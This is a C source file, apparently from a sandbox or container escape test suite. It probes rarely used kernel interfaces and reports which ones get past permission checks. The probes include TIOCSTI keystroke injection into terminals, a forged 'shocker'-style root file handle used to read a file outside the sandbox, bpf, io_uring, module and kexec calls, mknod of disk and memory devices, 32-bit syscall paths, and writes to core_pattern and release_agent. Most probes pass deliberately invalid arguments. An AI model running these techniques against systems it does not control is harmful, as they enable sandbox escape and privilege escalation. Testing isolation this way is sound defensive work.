/*
 * Calls into rarely used parts of the kernel, each a door that was found open in its time.
 *
 * Calls that would change the machine get operands that are refused after the check of rights:
 * EINVAL or EFAULT then says that the right was there, which counts as a success.
 */
#include "attack.h"
#include <dirent.h>
#include <linux/bpf.h>
#include <linux/fanotify.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/reboot.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/sysmacros.h>
#include <time.h>

/* A refusal is EPERM, EACCES or ENOSYS; any other error comes from behind the check. */
static void past_check(const char *what, long result)
{
	if (result >= 0 || (errno != EPERM && errno != EACCES && errno != ENOSYS))
		got("%s (%s)", what, result < 0 ? strerror(errno) : "done");
	else
		no(what);
}

static void inject(void)
{
	static const char *const terminals[] = {"/dev/tty", "/dev/pts/0", "/dev/console",
	                                        "/dev/tty0", "/dev/tty1"};
	const char *text = "pwned\n";

	for (int fd = 0; fd < 3; fd++)
		for (const char *p = text; *p; p++)
			if (ioctl(fd, TIOCSTI, p) == 0)
				got("a key into descriptor %d", fd);
	for (size_t i = 0; i < count_of(terminals); i++) {
		int fd = open(terminals[i], O_RDWR | O_NOCTTY);
		char sub = 3;

		if (fd < 0) {
			no(terminals[i]);
			continue;
		}
		for (const char *p = text; *p; p++)
			if (ioctl(fd, TIOCSTI, p) == 0)
				got("a key into %s", terminals[i]);
		if (ioctl(fd, TIOCLINUX, &sub) == 0)
			got("the selection of %s", terminals[i]);
		if (write(fd, "pwned", 5) == 5)
			printf("wrote to %s\n", terminals[i]);
	}
	show("/dev/tty");
}

/* The upper half of the request is not looked at by the kernel, but perhaps by a filter. */
static void inject_wide(void)
{
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY), slave;
	char name[64], buf[16];
	int zero = 0;
	unsigned number;

	if (master < 0 || ioctl(master, TIOCSPTLCK, &zero) < 0 ||
	    ioctl(master, TIOCGPTN, &number) < 0) {
		no("ptmx");
		return;
	}
	snprintf(name, sizeof(name), "/dev/pts/%u", number);
	setsid();
	slave = open(name, O_RDWR);
	if (slave < 0) {
		no(name);
		return;
	}
	ioctl(slave, TIOCSCTTY, 0);
	for (int i = 0; i < 2; i++) {
		unsigned long request = (unsigned long)TIOCSTI | (i ? 0xdeadUL << 32 : 0);

		if (syscall(SYS_ioctl, slave, request, "x") == 0)
			got("a key into an own terminal, request %lx", request);
		else
			no("TIOCSTI");
	}
	fcntl(slave, F_SETFL, O_NONBLOCK);
	if (read(slave, buf, sizeof(buf)) > 0)
		got("it was read");
}

static void bpf(void)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};

	past_check("bpf map", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	past_check("bpf program", syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
	past_check("bpf ids", syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &attr, sizeof(attr)));
}

static void io_uring(void)
{
	char params[120] = "";

	past_check("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
	past_check("io_uring_setup of nothing", syscall(SYS_io_uring_setup, 0, NULL));
	past_check("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0));
	past_check("io_uring_register", syscall(SYS_io_uring_register, -1, 0, NULL, 0));
}

static void userfault(void)
{
	past_check("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
	past_check("userfaultfd of user mode", syscall(SYS_userfaultfd, O_CLOEXEC | 1));
	told("/dev/userfaultfd", open("/dev/userfaultfd", O_RDWR));
}

static void perf(void)
{
	struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE,
	                               .size = sizeof(attr),
	                               .config = PERF_COUNT_SW_TASK_CLOCK,
	                               .exclude_kernel = 1,
	                               .exclude_hv = 1};

	past_check("perf_event_open", syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
	past_check("of the victim",
	           syscall(SYS_perf_event_open, &attr, world_number("victim"), -1, -1, 0));
}

static void file_handle(void)
{
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} h = {.head.handle_bytes = 128};
	int mount_id, fd, dir = open(".", O_RDONLY | O_DIRECTORY);
	uint32_t root = 2; /* the inode of the root of ext4 */

	if (name_to_handle_at(AT_FDCWD, ".", &h.head, &mount_id, 0) < 0)
		no("name_to_handle_at");
	fd = open_by_handle_at(dir, &h.head, O_RDONLY);
	told("open_by_handle_at", fd);
	/* As the shocker of 2014: a handle of the file system's root, made up. */
	h.head.handle_bytes = 8;
	h.head.handle_type = 1;
	memset(h.head.f_handle, 0, 8);
	memcpy(h.head.f_handle, &root, sizeof(root));
	fd = open_by_handle_at(dir, &h.head, O_RDONLY);
	if (told("the root by handle", fd)) {
		int secret = openat(fd, world("beside") + 1, O_RDONLY);

		if (secret >= 0)
			show_fd(secret, "through it");
	}
}

static void modules(void)
{
	past_check("init_module", syscall(SYS_init_module, NULL, 0, ""));
	past_check("finit_module", syscall(SYS_finit_module, -1, "", 0));
	past_check("delete_module", syscall(SYS_delete_module, "nacre-no-such-module", O_NONBLOCK));
	past_check("kexec_load", syscall(SYS_kexec_load, 0, 99, NULL, 0xffff0000));
	past_check("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 0xffff));
}

static void machine(void)
{
	struct timespec bad = {0, -1};
	struct timex adjust = {.modes = ADJ_TICK, .tick = 1};

	past_check("reboot", syscall(SYS_reboot, 1, 2, 3, NULL)); /* with a wrong magic number */
	past_check("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &bad));
	past_check("adjtimex", adjtimex(&adjust));
	past_check("swapon", swapon("/nacre-no-such-file", 0));
	past_check("swapoff", swapoff("/nacre-no-such-file"));
	past_check("acct", syscall(SYS_acct, "/nacre-no-such-file"));
	past_check("sethostname", syscall(SYS_sethostname, "x", -1));
	past_check("setdomainname", syscall(SYS_setdomainname, "x", -1));
	past_check("iopl", syscall(SYS_iopl, 3));
	past_check("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
	past_check("syslog", syscall(SYS_syslog, 9, NULL, 0));
	past_check("quotactl", syscall(SYS_quotactl, 0x80000700, "/nacre-no", 0, NULL));
	past_check("lookup_dcookie", syscall(SYS_lookup_dcookie, 0UL, NULL, 0));
	past_check("fanotify_init", syscall(SYS_fanotify_init, FAN_CLASS_NOTIF, O_RDONLY));
}

static void memory_policy(void)
{
	unsigned long nodes = 1;
	pid_t victim = (pid_t)world_number("victim");

	told("migrate_pages", syscall(SYS_migrate_pages, victim, 1, &nodes, &nodes));
	told("move_pages", syscall(SYS_move_pages, victim, 0, NULL, NULL, NULL, 0));
	told("process_madvise",
	     syscall(SYS_process_madvise, (int)syscall(SYS_pidfd_open, victim, 0), NULL, 0, 20, 0));
}

/* No randomisation, which debuggers ask for, weakens nobody but the asker; these give up more. */
static void personalities(void)
{
	told("read implies exec", personality(READ_IMPLIES_EXEC));
	told("page zero", personality(MMAP_PAGE_ZERO));
	told("whole seconds", personality(WHOLE_SECONDS));
	told("another system", personality(PER_SVR4));
}

/* The same doors by the numbers of 32-bit programs. */
static long call32(long number, long a, long b, long c)
{
#if defined(__x86_64__)
	long result;

	__asm__ volatile("int $0x80"
	                 : "=a"(result)
	                 : "a"(number), "b"(a), "c"(b), "d"(c)
	                 : "memory", "cc", "r8", "r9", "r10", "r11");
	return result;
#else
	return -ENOSYS;
#endif
}

static void getpid32(void)
{
	long r = call32(20, 0, 0, 0);

	if (r > 0)
		got("getpid by int 0x80: %ld", r);
	else
		printf("no: int 0x80: %ld\n", r);
}

static void ptrace32(void)
{
	if (call32(26, 0, 0, 0) == 0)
		got("ptrace by int 0x80");
}

static void unshare32(void)
{
	if (call32(310, 0x10000000, 0, 0) == 0)
		got("unshare by int 0x80");
}

static void x32(void)
{
	long r = syscall(0x40000000 | SYS_getpid);

	if (r > 0)
		got("getpid by x32");
	else
		no("x32 getpid");
	r = syscall(0x40000000 | 521, 0, 0, 0, 0); /* ptrace of x32 */
	if (r == 0)
		got("ptrace by x32");
}

static void other_abis(void)
{
	in_child(getpid32);
	in_child(ptrace32);
	in_child(unshare32);
	in_child(x32);
}

static void nodes(void)
{
	static const struct {
		const char *name;
		mode_t mode;
		unsigned major, minor;
	} made[] = {{"null", S_IFCHR, 1, 3},
	            {"mem", S_IFCHR, 1, 1},
	            {"disk", S_IFBLK, 254, 0},
	            {"loop", S_IFBLK, 7, 0},
	            {"whiteout", S_IFCHR, 0, 0}};
	const char *const dirs[] = {".", "/tmp", "/dev", "/dev/shm"};
	char path[128];

	for (size_t d = 0; d < count_of(dirs); d++) {
		for (size_t i = 0; i < count_of(made); i++) {
			snprintf(path, sizeof(path), "%s/nacre-node-%s", dirs[d], made[i].name);
			if (mknod(path, made[i].mode | 0666,
			          makedev(made[i].major, made[i].minor)) < 0)
				continue;
			if (made[i].major) /* a whiteout is open to everybody, and no device */
				got("%s", path);
			unlink(path);
		}
	}
	told("the planted character device", open("planted-zero", O_RDWR));
	told("the planted block device", open("planted-disk", O_RDONLY));
}

static void device_files(void)
{
	static const char *const names[] = {
		"/dev/mem",       "/dev/kmem",         "/dev/port",          "/dev/kmsg",
		"/dev/fuse",      "/dev/kvm",          "/dev/loop-control",  "/dev/loop0",
		"/dev/net/tun",   "/dev/vda",          "/dev/sda",           "/dev/console",
		"/dev/tty0",      "/dev/vhost-net",    "/dev/vsock",         "/dev/uinput",
		"/dev/snapshot",  "/dev/autofs",       "/dev/btrfs-control", "/dev/mapper/control",
		"/dev/hwrng",     "/dev/cpu/0/msr",    "/dev/userfaultfd",   "/dev/uhid",
		"/dev/dri/card0", "/dev/input/event0", "/dev/rtc0",          "/dev/watchdog0"};

	for (size_t i = 0; i < count_of(names); i++) {
		if (strstr(names[i], "watchdog"))
			continue; /* opening it starts it */
		for (int mode = O_RDONLY; mode <= O_RDWR; mode++)
			if (open(names[i], mode | O_NONBLOCK | O_NOCTTY) >= 0)
				got("%s, mode %d", names[i], mode);
	}
}

/* Settings of the whole machine. Opened for writing only; nothing is written but one harmless
 * number. */
static void settings(void)
{
	static const char *const names[] = {"/proc/sys/kernel/core_pattern",
	                                    "/proc/sys/kernel/modprobe",
	                                    "/proc/sys/kernel/hostname",
	                                    "/proc/sys/vm/overcommit_memory",
	                                    "/proc/sys/kernel/pid_max",
	                                    "/proc/sys/fs/binfmt_misc/register",
	                                    "/proc/sys/net/ipv4/ip_forward",
	                                    "/proc/sys/net/ipv4/ping_group_range",
	                                    "/proc/sys/kernel/shmmax",
	                                    "/proc/sys/fs/mqueue/queues_max",
	                                    "/proc/sys/user/max_user_namespaces",
	                                    "/proc/sysrq-trigger",
	                                    "/proc/1/sysrq",
	                                    "/proc/irq/default_smp_affinity",
	                                    "/proc/acpi/wakeup",
	                                    "/proc/bus/pci/00/00.0",
	                                    "/proc/mtrr",
	                                    "/proc/scsi/scsi",
	                                    "/proc/timer_list",
	                                    "/proc/sched_debug",
	                                    "/sys/kernel/uevent_helper",
	                                    "/sys/power/state",
	                                    "/sys/module/kernel/parameters/panic",
	                                    "/sys/kernel/profiling",
	                                    "/sys/fs/cgroup/cgroup.procs",
	                                    "/sys/fs/cgroup/unified/cgroup.procs",
	                                    "/sys/fs/cgroup/memory/cgroup.procs",
	                                    "/sys/fs/cgroup/memory/release_agent",
	                                    "/sys/fs/cgroup/pids/cgroup.procs",
	                                    "/sys/fs/cgroup/devices/tasks",
	                                    "/sys/fs/cgroup/cpu/release_agent",
	                                    "/sys/kernel/mm/transparent_hugepage/enabled",
	                                    "/sys/kernel/debug/sched/features",
	                                    "/sys/kernel/security/smackfs/load",
	                                    "/sys/class/net/eth0/mtu"};

	for (size_t i = 0; i < count_of(names); i++) {
		int fd = open(names[i], O_WRONLY);

		if (fd >= 0 && strcmp(names[i], "/proc/timer_list") != 0)
			got("%s open for writing", names[i]);
		close(fd);
	}
	{
		int fd = open(world("sysctl"), O_WRONLY);

		if (fd < 0 || write(fd, world("sysctl_value"), strlen(world("sysctl_value"))) < 0)
			no(world("sysctl"));
	}
}

static void sys_tree(void)
{
	static const char *const names[] = {"/sys/kernel",       "/sys/class/net/lo/statistics",
	                                    "/sys/block",        "/sys/firmware",
	                                    "/sys/fs/cgroup",    "/sys/kernel/security",
	                                    "/sys/kernel/debug", "/sys/kernel/tracing"};

	DIR *net = opendir("/sys/class/net");

	for (size_t i = 0; i < count_of(names); i++)
		if (open(names[i], O_RDONLY | O_DIRECTORY) >= 0)
			got("%s", names[i]);
	/* The box's own interface is told, by its name. */
	for (struct dirent *d; net && (d = readdir(net));)
		if (d->d_name[0] != '.' && strcmp(d->d_name, "lo") != 0)
			got("the interface %s", d->d_name);
	/* The processors can be looked at, and nothing can be climbed to from there. */
	for (size_t i = 0; i < count_of(names); i++) {
		char path[128];

		snprintf(path, sizeof(path), "/sys/devices/system/cpu/../../..%s", names[i] + 4);
		if (open(path, O_RDONLY | O_DIRECTORY) >= 0)
			got("%s", path);
	}
	if (open("/sys/devices/system/cpu/cpu0/online", O_WRONLY) >= 0)
		got("a switch of a processor");
	if (open("/sys/devices/system/cpu/cpu0/subsystem/../memory", O_RDONLY) >= 0)
		got("the memory's places");
}

static const struct attempt all[] = {
	{"inject", inject},
	{"inject_wide", inject_wide},
	{"bpf", bpf},
	{"io_uring", io_uring},
	{"userfault", userfault},
	{"perf", perf},
	{"file_handle", file_handle},
	{"modules", modules},
	{"machine", machine},
	{"memory_policy", memory_policy},
	{"personalities", personalities},
	{"other_abis", other_abis},
	{"nodes", nodes},
	{"device_files", device_files},
	{"settings", settings},
	{"sys_tree", sys_tree},
};

int main(int argc, char **argv)
{
	return attack(argc, argv, all, count_of(all));
}
